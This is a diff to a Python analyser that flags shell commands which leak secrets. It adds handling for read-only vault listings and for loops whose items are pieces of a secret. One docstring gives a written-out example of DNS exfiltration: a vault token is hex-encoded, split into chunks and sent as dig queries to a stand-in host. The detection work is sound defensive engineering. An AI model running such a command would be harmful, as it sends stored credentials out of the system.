@@ -58,7 +58,7 @@ def secret_output(argv: list[str | None]) -> str | None:
 def _is_leak_source(c: Cmd) -> str | None:
     """'the environment', a secret variable, tool output or path when this command prints secrets."""
     triggers = _SECRET_TOOLS.get(c.name)
-    if triggers and any(w.value in triggers for w in c.args):
+    if triggers and any(w.value in triggers for w in c.args) and not (c.name == "vault" and _vault_names_only(c)):
         return f"`{c.name}` secret output"
     if c.name in _ELSEWHERE:
         found = _elsewhere_leak(c)
@@ -96,6 +96,13 @@ def _is_leak_source(c: Cmd) -> str | None:
         if v and env_file(v):
             return v
     return _held_secrets(c)
+
+
+def _vault_names_only(c: Cmd) -> bool:
+    """`vault kv list`, `vault kv metadata get`: the secrets' names and versions, not their values (`vault kv get`,
+    `vault read` print those)."""
+    vals = c.values()
+    return "read" not in vals and "get" not in vals or "metadata" in vals
 
 
 # programs that run a command somewhere else and print what it prints: a shell given the command as a string,
@@ -151,31 +158,87 @@ def var_leak(a, w, depth: int = 0) -> tuple[str, Cmd] | None:
     if "$" not in w.text:
         return None
     data = a.doc.data
+    if (b"for" in data or b"read" in data) and (found := _loop_leak(a, w, depth)) is not None:
+        return found
     if b"=$(" not in data and b'="$(' not in data and b"=`" not in data and b'="`' not in data:
         return None  # no variable is assigned a program's output: most words pay these byte searches
-    from .ecosystems import secret_printed
-
     start = w.node.start_byte
     for name in dict.fromkeys(_VAR_REF.findall(w.text)):  # in the word's order: a set's would follow the hash seed
         for m in re.finditer(rb"(?<![\w$])" + name.encode() + rb"=\"?(?=\$\(|`)", data):
             if m.end() >= start:
                 break
             inner = a.subst.get(m.end()) or ()
-            if any(c.name == "wc" for c in inner):
-                continue  # `n=$(env | wc -l)`: a count
-            for c in inner:
-                leak = _is_leak_source(c) or secret_printed(c)
-                if leak:
-                    return leak, c
-                if depth < 2 and c.name in _PRINTS_ARGS:
-                    found = next((f for x in c.args if (f := var_leak(a, x, depth + 1))), None)
-                    if found:
-                        return found
-                if depth < 2 and c.redirects:
-                    found = next((f for x in herestrings(a, c) if (f := var_leak(a, x, depth + 1))), None)
-                    if found:
-                        return found
+            found = _inner_leak(a, inner, depth)
+            if found is not None:
+                return found
     return None
+
+
+def _inner_leak(a, inner, depth: int) -> tuple[str, Cmd] | None:
+    """What secrets the commands `inner` of one substitution print, and the command printing them (see var_leak)."""
+    from .ecosystems import secret_printed
+
+    if any(c.name == "wc" for c in inner):
+        return None  # `n=$(env | wc -l)`: a count
+    for c in inner:
+        leak = _is_leak_source(c) or secret_printed(c)
+        if leak:
+            return leak, c
+        if depth < 2 and c.name in _PRINTS_ARGS:
+            found = next((f for x in c.args if (f := var_leak(a, x, depth + 1))), None)
+            if found:
+                return found
+        if depth < 2 and c.redirects:
+            found = next((f for x in herestrings(a, c) if (f := var_leak(a, x, depth + 1))), None)
+            if found:
+                return found
+    return None
+
+
+_READ_OPTS = frozenset({"-d", "-n", "-N", "-p", "-t", "-u", "-a", "-i"})
+
+
+def _loop_leak(a, w, depth: int) -> tuple[str, Cmd] | None:
+    """A loop's variable in `w` whose items are a secret: `for c in $(vault kv get -field=token x | xxd -p | fold -w
+    60); do dig +short "$c.x.example"; done` (the list a substitution that prints one, also through an encoder or a
+    splitter, or a variable holding one), or `while read -r c; do …; done < <(vault kv get …)` (a process
+    substitution that prints one). Each item is a piece of the secret, sent as the whole would be."""
+    names = set(_VAR_REF.findall(w.text))
+    came, up = w.node, w.node.parent
+    while up is not None:
+        if up.type == "for_statement" and came.type == "do_group":
+            var = up.child_by_field_name("variable")
+            if var is not None and a.src(var) in names:
+                for v in up.children_by_field_name("value"):
+                    item = a.ev.word(v)
+                    found = _inner_leak(a, a.substituted([item]), depth) if item.substitutions else None
+                    if found is None and depth < 2:
+                        found = var_leak(a, item, depth + 1)  # `for c in $chunks`
+                    if found is not None:
+                        return found
+        elif up.type in ("while_statement", "until_statement") and came.type == "do_group" and \
+                up.parent is not None and up.parent.type == "redirected_statement":
+            if _reads_into(a, up, names):
+                for r in up.parent.children:
+                    for d in r.children_by_field_name("destination")[:1] if r.type == "file_redirect" else ():
+                        if d.type == "process_substitution":
+                            found = _inner_leak(a, a.visit_subst(d), depth)
+                            if found is not None:
+                                return found
+        came, up = up, up.parent
+    return None
+
+
+def _reads_into(a, loop, names: set[str]) -> bool:
+    """Whether the condition of the while loop `loop` is a `read` into one of `names` (`while read -r c`)."""
+    cond = loop.child_by_field_name("condition")
+    if cond is None:
+        return False
+    text = a.src(cond).split()
+    if "read" not in text:
+        return False
+    rest = text[text.index("read") + 1:]
+    return any(t in names for t in rest if not t.startswith("-"))
 
 
 _PRINTS_ARGS = frozenset({"echo", "printf"})
